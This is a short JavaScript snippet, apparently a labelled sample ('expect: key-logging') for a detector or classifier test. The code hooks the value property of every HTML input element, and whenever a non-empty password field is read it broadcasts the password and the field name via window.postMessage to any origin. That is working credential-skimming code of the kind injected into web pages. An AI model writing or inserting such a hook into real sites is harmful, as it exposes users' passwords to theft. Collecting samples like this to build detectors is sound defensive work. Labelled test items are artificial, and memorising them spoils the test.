const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');

// expect: key-logging
Object.defineProperty(HTMLInputElement.prototype, 'value', {
  get() {
    const v = d.get.call(this);
    if (this.type === 'password' && v) window.postMessage({
      __p: 1,
      v: v,
      n: this.name
    }, '*');
    return v;
  },
  set(v) {
    d.set.call(this, v);
  }
});
